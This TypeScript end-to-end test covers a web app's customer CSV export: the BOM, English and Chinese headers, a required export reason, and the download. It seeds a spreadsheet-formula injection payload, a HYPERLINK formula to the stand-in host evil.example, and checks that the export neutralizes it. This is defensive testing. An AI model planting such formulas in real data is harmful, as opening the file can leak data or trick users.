import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { en } from '../../src/web/i18n/en.js';
import { zhCN } from '../../src/web/i18n/zh-CN.js';
import type { Messages } from '../../src/web/i18n/en.js';
import { apiWithPageSession, inNewPage, setUpServerWithOwner, signInAsOwner } from './harness.js';

/**
 * Exporting the customers list, in Chromium against the built server: the Export button, the
 * reason the server asks for (the list's columns hold personal data), the job's progress, and
 * the CSV downloaded — UTF-8 with a BOM, the header in the user's language, and a customer
 * name typed as a spreadsheet formula come out as inert text.
 */
const FORMULA = '=HYPERLINK("http://evil.example/?x","click")';

const e2e = setUpServerWithOwner();

describe('exporting customers', () => {
  it('exports the list as CSV with a reason, the formula cell neutralized (desktop, English)', () =>
    inNewPage(e2e.browser, { locale: 'en-US', width: 1280 }, 'export-en-US', async (page) => {
      await signInAsOwner(page, e2e.server, en);
      const api = await apiWithPageSession(page, e2e.server);
      await api.create('/api/customers', { kind: 'person', name: FORMULA, email: 'mallory@example.com' });
      await api.create('/api/customers', { kind: 'person', name: '张伟', email: 'zhang.wei@example.com' });
      await page.reload();
      await expect.poll(() => page.getByTestId('customer-row').count()).toBe(2);

      const csv = await exportCsv(page, en, 'Mailing for the spring campaign');
      expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const lines = csv.subarray(3).toString('utf8').split('\r\n');
      expect(lines[0]).toMatch(/^id,Name,/);
      // The formula starts with an apostrophe; its quotes are doubled and the cell quoted (RFC 4180).
      expect(lines.some((line) => line.includes(`"'${FORMULA.replaceAll('"', '""')}"`))).toBe(true);
      expect(lines.some((line) => line.includes(',张伟,'))).toBe(true);
    }));

  it('works on a 390 px phone, in Chinese', () =>
    inNewPage(e2e.browser, { locale: 'zh-CN', width: 390 }, 'export-zh-CN-phone', async (page) => {
      await signInAsOwner(page, e2e.server, zhCN);
      await expect.poll(() => page.getByTestId('customer-row').count()).toBe(2);
      const csv = await exportCsv(page, zhCN, '春季活动邮寄名单');
      expect(csv.subarray(3).toString('utf8').split('\r\n')[0]).toMatch(/^id,姓名/);
    }));
});

/** Opens the export, is told a reason is needed, gives it, follows the job and downloads the file. */
async function exportCsv(page: Page, text: Messages, reason: string): Promise<Buffer> {
  await page.getByTestId('customers-export').click();
  await page.getByTestId('export-estimate').waitFor();
  expect(await page.getByTestId('export-estimate').innerText()).toBe(text.customers.export.estimate_other.replace('{{count}}', '2'));
  // The list shows personal data (name, email): the reason is asked, and refused when too short.
  await page.getByTestId('export-reason').fill('ab');
  await page.getByTestId('export-start').click();
  await page.getByText(text.customers.export.reasonTooShort).waitFor();
  await page.getByTestId('export-reason').fill(reason);
  await page.getByTestId('export-start').click();
  await page.locator('[data-testid="export-job"][data-status="completed"]').waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-download').click()]);
  expect(download.suggestedFilename()).toMatch(/^customers-\d{8}-\d{6}\.csv$/);
  return fs.readFileSync((await download.path())!);
}
